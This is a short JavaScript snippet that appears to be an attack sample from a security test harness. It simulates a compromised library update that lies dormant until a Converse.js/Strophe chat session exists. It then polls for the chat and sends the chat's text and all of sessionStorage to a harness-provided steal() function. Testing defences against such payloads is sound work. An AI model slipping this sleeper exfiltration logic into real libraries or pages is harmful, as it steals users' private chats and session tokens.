// Tries: behave until somebody has logged in to the chat, then read it: a library with a bad update.
(() => {
  const awake = () => attempt(() => Object.keys(sessionStorage).concat(Object.keys(localStorage)).some((key) => key.includes("strophe") || key.includes("converse")));
  setInterval(() => {
    const chat = document.querySelector("converse-chat, converse-roster");
    if (awake() !== true || !chat) return steal("sleeper", "sleeps");
    steal("sleeper", `awake: ${document.querySelector("converse-root")?.textContent} ${JSON.stringify({ ...sessionStorage })}`);
  }, 250);
})();
